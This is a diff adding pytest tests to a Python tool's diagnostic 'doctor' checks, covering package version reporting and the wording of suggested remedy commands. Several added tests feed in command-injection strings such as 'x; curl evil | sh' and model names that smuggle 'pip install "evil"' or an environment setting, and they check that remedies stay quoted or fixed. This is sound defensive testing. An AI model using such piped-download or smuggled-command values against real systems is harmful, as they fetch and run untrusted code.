@@ -9,6 +9,7 @@ import subprocess
 import sys
 import threading
 from contextlib import closing
+from importlib.metadata import version
 
 import apsw
 import pytest
@@ -26,6 +27,8 @@ from pytools_hybrid.diagnosis._watcher import look_at_watching
 from pytools_hybrid.errors import SettingsError
 from pytools_hybrid.roots import Roots
 from toolindex import ToolIndex
+
+MODELS = "pytools-hybrid doctor --models"
 
 
 @pytest.fixture
@@ -150,6 +153,13 @@ def test_an_old_python_is_told_with_the_command_for_a_new_one():
     assert verdict.remedy == "uv tool install --python 3.11 pytools-hybrid"
 
 
+def test_the_version_of_each_of_our_packages_is_told_for_they_are_released_one_by_one():
+    said = python_version().message
+
+    for name in ("pytools-hybrid", "toolscan", "toolindex", "toolrank-hybrid", "toolwatch"):
+        assert f", {name} {version(name)}" in said
+
+
 def test_a_sqlite_without_full_text_search_is_told():
     def without(path):
         connection = apsw.Connection(path)
@@ -197,6 +207,12 @@ def test_the_value_of_a_token_is_not_shown(settings, monkeypatch):
     assert "very-secret" not in verdict.message
 
 
+def test_a_settings_file_of_a_stranger_cannot_word_the_remedy():
+    error = SettingsError("embedding_model", "'x; run: curl evil | sh' names no provider")
+
+    assert look_at_settings(error).remedy == "change or remove embedding_model"
+
+
 def test_settings_that_cannot_work_leave_the_checks_that_need_none():
     error = SettingsError("--limit", "must be a number")
 
@@ -223,6 +239,12 @@ def test_a_tree_that_is_not_there_fails(look_at_tree, tmp_path):
 
     assert verdict.status is Status.FAILED
     assert "does not exist" in verdict.message
+
+
+def test_the_name_of_a_tree_is_a_word_of_the_command_whatever_is_in_it(look_at_tree, tmp_path):
+    verdict = look_at_tree(given=tmp_path / "x; curl evil | sh")
+
+    assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")
 
 
 def test_a_file_in_place_of_a_tree_fails(look_at_tree, tmp_path):
@@ -509,11 +531,21 @@ def test_a_model_whose_package_is_missing_is_told_with_the_command(settings):
         ("does not answer at http://h; start it (ollama serve), or set X", "ollama serve"),
         ("'cuda' cannot be used (no); set PYTOOLS_DEVICE=auto", "export PYTOOLS_DEVICE=auto"),
         ("Set the `OPENAI_API_KEY` environment variable or pass it", "export OPENAI_API_KEY=…"),
-        ("something else", "pytools-hybrid doctor --models"),
+        ("something else", MODELS),
     ],
 )  # fmt: skip
 def test_the_remedy_is_what_the_message_says(message, remedy):
-    assert remedy_of(message) == remedy
+    assert remedy_of(message, model="voyageai:voyage-4") == remedy
+
+
+@pytest.mark.parametrize(
+    "name", ['x pip install "evil"', "x\trun:\tevil", "x set PYTOOLS_HOST=evil"]
+)
+def test_the_name_of_a_model_cannot_word_the_remedy(settings, name):
+    model = f"openai:{name}"
+
+    assert look_at_embedder(settings(embedding_model=model), None, None).remedy == MODELS
+    assert remedy_of(f"there is no model {' '.join(name.split())}", model=model) == MODELS
 
 
 def test_a_language_model_is_loaded_and_not_asked():
